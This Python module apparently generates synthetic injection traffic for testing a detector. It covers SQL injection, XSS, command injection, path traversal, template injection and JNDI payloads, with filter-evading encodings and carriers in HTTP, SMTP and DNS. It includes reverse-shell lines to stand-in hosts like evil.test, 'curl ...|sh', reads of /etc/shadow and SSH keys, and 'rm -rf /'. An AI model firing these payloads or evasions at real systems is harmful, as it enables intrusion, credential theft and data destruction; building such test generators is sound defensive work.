"""Injection attempts: the texts by kind, their evasive spellings, and the place in a message where each is put."""

import carriers
import escape
from carriers import dns, in_form, in_header, in_json, in_path, in_query, in_smtp, plain_value, words
from vocabulary import HOSTS, NAMES, SURNAMES_APOSTROPHE, TLDS, WORDS

TABLES = "users user members accounts admin customers orders sessions passwords information_schema.tables mysql.user".split()
COLUMNS = "password passwd email login name secret token card hash user(),database() version() @@version".split()


def _number(rng) -> str:
    return str(rng.randint(0, 10 ** rng.randint(1, 4)))


def _start(rng) -> str:
    """What stands before the attack in the same parameter."""
    return rng.choice(["", "", _number(rng), _number(rng), "-1", rng.choice(WORDS), rng.choice(NAMES), "admin", "x"])


def sqli(rng) -> str:
    quote = rng.choice(["'", "'", "'", '"', "", "", "')", '")', "'))", ")"])
    end = rng.choice(["--", "-- ", "-- -", "#", "/*", "", "", ";--", "%00"])
    table, column = rng.choice(TABLES), rng.choice(COLUMNS)
    n, m = _number(rng), _number(rng)
    letter = rng.choice("abxyz1")
    columns = ",".join(rng.choice(["NULL", _number(rng), column]) for _ in range(rng.randint(1, 6)))
    forms = [
        f" OR {n}={n}",
        f" or {n}={n}",
        f" AND {n}={m}",
        f" OR '{letter}'='{letter}",
        f" or {n}<{n}{m}",
        " OR true",
        " OR 1",
        f"||'{letter}'='{letter}",
        " OR ''='",
        "'='",
        f" || {n}={n}",
        " AND 1=(SELECT 1)",
        "=0",
        " LIKE '%",
        f" UNION SELECT {columns}",
        f" UNION ALL SELECT {columns}",
        f" UNION SELECT {column} FROM {table}",
        f" union select {columns} from {table}",
        f" UNION ALL SELECT NULL,{column} FROM {table}",
        f"; DROP TABLE {table}",
        f"; DELETE FROM {table}",
        f"; UPDATE {table} SET {column}='x'",
        f"; INSERT INTO {table} VALUES({n})",
        "; EXEC xp_cmdshell('dir')",
        "; SHUTDOWN",
        f";SELECT PG_SLEEP({n})",
        f"; TRUNCATE {table}",
        f" AND SLEEP({n})",
        " OR SLEEP(5)",
        f"; WAITFOR DELAY '0:0:{n}'",
        f" AND BENCHMARK(5000000,MD5({n}))",
        " OR pg_sleep(10)",
        "-SLEEP(5)",
        f" AND extractvalue(1,concat(0x7e,{column}))",
        " AND updatexml(1,concat(0x7e,version()),1)",
        f" AND (SELECT COUNT(*) FROM {table})>0",
        f" AND ASCII(SUBSTRING((SELECT {column}),1,1))>{n}",
        f" ORDER BY {rng.randint(1, 30)}",
        " HAVING 1=1",
        f" GROUP BY {column} HAVING 1=1",
        " INTO OUTFILE '/tmp/x'",
        " PROCEDURE ANALYSE()",
        " AND 1=CONVERT(int,@@version)",
    ]
    if rng.random() < 0.12:
        return rng.choice(["admin", "root", rng.choice(NAMES)]) + rng.choice(
            ["'--", "' --", "' #", "'/*", "'-- -", "' or '1'='1", '" or ""="']
        )
    return _start(rng) + quote + rng.choice(forms) + end


def xss(rng) -> str:
    call = rng.choice(
        [
            "alert(1)",
            "alert('xss')",
            "alert(document.cookie)",
            "prompt(1)",
            "confirm(1)",
            "eval(name)",
            "fetch('//evil.test')",
            "location='//e.test'",
            "console.log(1)",
            "print()",
            "alert`1`",
            "import('//x.test')",
            "document.write(1)",
        ]
    )
    event = rng.choice(["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationend"])
    brk = rng.choice(["", "", "", '">', "'>", "</title>", "-->", "</textarea>", "'\">"])
    forms = [
        f"<script>{call}</script>",
        f"<script>{call}</script>",
        "<script src=//evil.test/x.js></script>",
        f"<script src=http://{rng.choice(WORDS)}.test/a>",
        f"<img src=x {event}={call}>",
        f'<img src=1 onerror="{call}">',
        f"<svg onload={call}>",
        f"<svg/onload={call}>",
        f"<body onload={call}>",
        f"<iframe src=javascript:{call}>",
        f'<a href="javascript:{call}">x</a>',
        f"<details open ontoggle={call}>",
        f"<input autofocus onfocus={call}>",
        f"<video><source {event}={call}>",
        f"<math href=javascript:{call}>",
        f"<object data=javascript:{call}>",
        f"<marquee onstart={call}>",
        f'<div style="x:expression({call})">',
        "<embed src=data:text/html;base64,PHNj",
        f"<x {event}={call}>y",
    ]
    pick = rng.random()
    if pick < 0.08:
        return f"javascript:{call}"
    if pick < 0.18:
        return rng.choice(['"', "'"]) + f" {event}={call} " + rng.choice(['x="', "//", ""])
    if pick < 0.26:
        return rng.choice(["'", '"', "';", '";', "'-", '"-']) + call + rng.choice(["//", "-'", ";//", '-"'])
    return (rng.choice(WORDS) if rng.random() < 0.2 else "") + brk + rng.choice(forms)


def cmdi(rng) -> str:
    host = rng.choice(["evil.test", f"198.51.100.{rng.randint(1, 254)}", f"{rng.choice(WORDS)}.test"])
    command = rng.choice(
        [
            "cat /etc/passwd",
            "cat /etc/shadow",
            "id",
            "whoami",
            "uname -a",
            "ls -la",
            "ls /",
            f"wget http://{host}/x.sh",
            f"curl http://{host}/a|sh",
            f"curl {host}",
            f"ping -c 5 {host}",
            f"nc -e /bin/sh {host} 4444",
            f"bash -i >& /dev/tcp/{host}/443 0>&1",
            "sleep 10",
            "rm -rf /",
            "env",
            "ps aux",
            f"nslookup {host}",
            "chmod 777 /tmp/x",
            "php -r 'system(id);'",
            "python3 -c 'import os'",
            "reboot",
            "ifconfig",
            "netstat -an",
            "echo vuln",
            "sh",
            f"telnet {host}",
            "cat ~/.ssh/id_rsa",
            "busybox wget",
            "/bin/bash",
            "tftp -g",
        ]
    )
    windows = rng.choice(
        ["dir c:\\", "type c:\\windows\\win.ini", "net user", "ipconfig /all", "cmd.exe /c dir", "powershell -enc SQBFAFgA", "ver"]
    )
    start = rng.choice(
        [
            "",
            "",
            f"127.0.0.{rng.randint(1, 9)}",
            f"10.20.0.{rng.randint(1, 40)}",
            f"{rng.choice(WORDS)}.{rng.choice(TLDS)}",
            _number(rng),
            rng.choice(carriers.FILES),
            rng.choice(WORDS),
        ]
    )
    gap = rng.choice(["", " "])
    forms = [
        f";{gap}{command}",
        f";{gap}{command};",
        f"|{gap}{command}",
        f"||{gap}{command}",
        f"&&{gap}{command}",
        f"`{command}`",
        f"$({command})",
        f"\n{command}",
        f" & {windows}",
        f"|{windows}",
        f"&&{gap}{windows}",
        f"'; {command} #",
        f'"; {command}; "',
        f"; {command} > /tmp/o",
        f"| {command} &",
        f"$({command})",
    ]
    if rng.random() < 0.06:
        return rng.choice(["() { :; }; /bin/bash -c id", "() { :;};echo; /bin/cat /etc/passwd", "() { ignored;};/usr/bin/id"])
    return start + rng.choice(forms)


def traversal(rng) -> str:
    up = rng.choice(["../", "../", "../", "..\\", "....//", "..;/", "..//"]) * rng.randint(2, 8)
    target = rng.choice(
        [
            "etc/passwd",
            "etc/passwd",
            "etc/shadow",
            "etc/hosts",
            "windows/win.ini",
            "boot.ini",
            "proc/self/environ",
            "var/log/auth.log",
            "root/.ssh/id_rsa",
            "WEB-INF/web.xml",
            "wp-config.php",
            ".env",
            ".git/config",
            "etc/nginx/nginx.conf",
            "windows\\system32\\drivers\\etc\\hosts",
        ]
    )
    tail = rng.choice(["", "", "", "\0", "\0.jpg", "?", "#"])
    start = rng.choice(["", "", "", "/", "img/", "./", rng.choice(WORDS) + "/", "/var/www/"])
    pick = rng.random()
    if pick < 0.12:
        return rng.choice(
            [
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "php://filter/convert.base64-encode/resource=index.php",
                "php://input",
                "expect://id",
                "data://text/plain;base64,PD9waHA",
                "zip://x.zip#a",
                "file://localhost/etc/hosts",
            ]
        )
    if pick < 0.2:
        return (
            rng.choice(["/etc/passwd", "/etc/shadow", "/proc/self/environ", "c:\\windows\\win.ini", "/../../etc/passwd", "/proc/version"])
            + tail
        )
    return start + up + target + tail


def template(rng) -> str:
    a, b = rng.randint(2, 99), rng.randint(2, 99)
    product = rng.choice([f"{a}*{b}", f"{a} * {b}", f"{a}*'{b}'", f"{a}+{b}"])
    deep = rng.choice(
        [
            "''.__class__.__mro__[1].__subclasses__()",
            "config.items()",
            "config",
            "self.__init__.__globals__",
            "request.application.__globals__",
            "().__class__.__bases__[0]",
            "lipsum.__globals__.os.popen('id')",
            "cycler.__init__.__globals__",
            "_self.env.display('x')",
            "constructor.constructor('alert(1)')()",
            "['id']|filter('system')",
            "app.request.server.all|join(',')",
            "dump(app)",
            "self",
            "settings.SECRET_KEY",
        ]
    )
    java = rng.choice(
        [
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "T(java.lang.System).getenv()",
            "\"\".getClass().forName('java.lang.Runtime')",
            "#application",
            "@java.lang.Runtime@getRuntime()",
            "pageContext.request",
            product,
            product,
        ]
    )
    forms = [
        f"{{{{{product}}}}}",
        f"{{{{{deep}}}}}",
        f"{{{{ {deep} }}}}",
        f"${{{product}}}",
        f"${{{java}}}",
        f"<%= {product} %>",
        "<%= system('id') %>",
        f"#{{{product}}}",
        f"*{{{java}}}",
        f"%{{{java}}}",
        "{% debug %}",
        "{% import os %}{{os.system('id')}}",
        f"{{{product}}}",
        f"[[${{{java}}}]]",
        f"@({product})",
        '<#assign x="freemarker.template.utility.Execute"?new()>',
        f"{{{{{deep}}}}}",
        "{php}system('id');{/php}",
        f"~{{{product}}}",
        "<%= `id` %>",
    ]
    return (rng.choice(WORDS) if rng.random() < 0.2 else "") + rng.choice(forms)


def jndi(rng) -> str:
    scheme = rng.choice(["ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop"])
    host = rng.choice(
        [
            f"198.51.100.{rng.randint(1, 254)}:1389",
            "evil.test",
            f"{rng.choice(WORDS)}.test:389",
            "${hostName}.e.test",
            "${env:USER}.x.test",
            "127.0.0.1",
        ]
    )
    return f"${{jndi:{scheme}://{host}/{rng.choice(['a', 'x', 'Exploit', _number(rng), rng.choice(WORDS)])}}}"


KINDS = {"sqli": sqli, "xss": xss, "cmdi": cmdi, "traversal": traversal, "template": template, "jndi": jndi}


def _obscure(rng, kind: str, text: str) -> str:
    """Spellings that a keyword filter misses, by kind."""
    if kind == "sqli":
        gap = rng.choice(["/**/", "/**/", "\t", "\n", "+", "/*x*/", "%0b", "(", "  "])
        text = escape.mixed_case(rng, text) if rng.random() < 0.6 else text
        if rng.random() < 0.3:
            text = text.replace("UNION", "/*!50000UNION*/").replace("SELECT", "/*!SELECT*/")
        return text.replace(" ", gap) if gap != "(" else text.replace("=", rng.choice([" LIKE ", "<=>", " rlike ", " in "]))
    if kind == "xss":
        return rng.choice(
            [
                escape.mixed_case(rng, text),
                text.replace("<script", "<scr<script>ipt"),
                text.replace("<", "\\x3c").replace(">", "\\x3e"),
                text.replace(" ", "/"),
                text.replace("javascript", "java\tscript"),
                text.replace("javascript", "&#x6a;avascript"),
                text.replace("alert", "top['al'+'ert']"),
                text.replace("alert(1)", "[].find.constructor('x')()"),
                text.replace("<", "\uff1c").replace(">", "\uff1e"),
                text.replace("(", "&lpar;").replace(")", "&rpar;"),
            ]
        )
    if kind == "cmdi":
        return rng.choice(
            [
                text.replace(" ", "${IFS}"),
                text.replace(" ", "$IFS$9"),
                text.replace(" ", "\t"),
                text.replace("cat", "c'a't").replace("id", 'i""d'),
                text.replace("/etc/passwd", "/e??/p?sswd").replace("whoami", "w\\hoami"),
                text.replace("cat ", "{cat,").replace("passwd", "passwd}"),
                text.replace("sh", "s$@h").replace("id", "i$@d"),
                ";echo aWQ=|base64 -d|sh",
                "$(printf '\\151\\144')",
            ]
        )
    if kind == "traversal":
        return rng.choice(
            [
                text.replace("../", "..%c0%af"),
                text.replace("../", "%2e%2e/"),
                text.replace("../", "..%252f"),
                text.replace("../", "....//"),
                text.replace("../", "..%5c"),
                text.replace("../", ".%00./"),
                text.replace("../", "%u002e%u002e/"),
                text.replace("passwd", "./passwd"),
            ]
        )
    if kind == "template":
        return (
            text.replace("__class__", "['__cla'+'ss__']")
            .replace("config", 'con""fig')
            .replace("*", rng.choice(["|int*", "**", " - -"]))
            .replace("_", "\\x5f")
        )
    return rng.choice(
        [
            text.replace("jndi", "${lower:j}ndi"),
            text.replace("jndi", "${::-j}${::-n}${::-d}${::-i}"),
            text.replace("jndi:", "jnd${upper:i}:"),
            text.replace("jndi:ldap", "${env:X:-j}ndi:${env:X:-l}dap"),
            text.replace("jndi", "j${k8s:k5:-ND}i"),
            escape.mixed_case(rng, text),
            text.replace("jndi", "${lower:jndi}"),
        ]
    )


def _one_line(text: str) -> str:
    return text.replace("\n", " ").replace("\r", " ")


def attack(rng, kind: str, evasive: bool):
    """(payload, where, udp, port) of one attempt of `kind`."""
    text = KINDS[kind](rng)
    written = ""
    if evasive:
        style = rng.random()
        if style < 0.55:
            text = _obscure(rng, kind, text)
        elif style < 0.75:
            written = escape.over_encode(rng, text, rng.choice([0.3, 0.6, 1.0]))
        elif style < 0.85:
            written = escape.double_encode(text)
        else:
            # an attack behind an innocent beginning
            start = rng.choice([words(rng, 1, 3), rng.choice(SURNAMES_APOSTROPHE), plain_value(rng)])
            text = start + " " + text
    places = {
        "sqli": ["query"] * 10 + ["form"] * 6 + ["json"] * 5 + ["path"] * 2 + ["header"] * 2 + ["smtp", "dns"],
        "xss": ["query"] * 9 + ["form"] * 6 + ["json"] * 5 + ["path"] * 2 + ["header"] * 2 + ["smtp"],
        "cmdi": ["query"] * 8 + ["form"] * 6 + ["json"] * 4 + ["path"] + ["header"] * 3 + ["smtp"] * 3 + ["dns"],
        "traversal": ["query"] * 9 + ["path"] * 9 + ["form"] * 3 + ["json"] * 2 + ["header"],
        "template": ["query"] * 9 + ["form"] * 6 + ["json"] * 5 + ["path"] * 2 + ["header"] * 2 + ["smtp"],
        "jndi": ["header"] * 10 + ["query"] * 6 + ["path"] * 3 + ["json"] * 4 + ["form"] * 2 + ["smtp"] * 2 + ["dns"],
    }[kind]
    place = rng.choice(places)
    if written and place not in ("query", "path", "form"):
        place = "query"
    if place == "query":
        return in_query(rng, text, written), place, False, 80
    if place == "path":
        return in_path(rng, text, written), place, False, 80
    if place == "form":
        return in_form(rng, text, written), place, False, 80
    if place == "json":
        return in_json(rng, text), place, False, 80
    if place == "header":
        return in_header(rng, _one_line(text)), place, False, 80
    if place == "smtp":
        return in_smtp(rng, _one_line(text)), place, False, 25
    labels = [text.encode()[:60], rng.choice(WORDS).encode(), rng.choice(TLDS).split(".")[0].encode()]
    return dns(rng, labels, answer=rng.random() < 0.3, qtype=rng.choice([1, 28])), place, True, 53


def late_attack(rng, kind: str, window: int) -> bytes:
    """A request whose attack begins behind the first `window` bytes, so that no reader of those bytes can see it."""
    head = request_head(rng, window)
    text = _one_line(KINDS[kind](rng))
    return head + f"Cookie: id={text}\r\nUser-Agent: Mozilla/5.0\r\n\r\n".encode()


def request_head(rng, window: int) -> bytes:
    head = f"GET {carriers.path(rng)} {carriers.version(rng)}\r\nHost: {rng.choice(HOSTS)}\r\n"
    while len(head) < window:
        head += "Accept: */*\r\n" if "Accept:" not in head else "Accept-Encoding: gzip, deflate\r\n"
    return head.encode()
